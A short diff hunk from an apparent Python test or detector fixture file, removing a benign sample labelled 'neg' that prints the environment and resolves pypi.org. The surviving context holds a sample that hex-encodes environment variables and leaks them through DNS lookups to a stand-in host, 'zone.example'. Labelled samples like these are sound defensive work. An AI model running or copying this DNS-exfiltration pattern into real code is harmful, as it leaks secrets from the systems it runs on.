@@ -75,7 +75,3 @@ for k, v in os.environ.items():
         socket.getaddrinfo(v.encode().hex()[:60] + ".zone.example", 80)
     except OSError:
         pass
-#@ neg the environment printed and fixed names resolved
-import os, socket
-print(dict(os.environ))
-socket.getaddrinfo("pypi.org", 443)
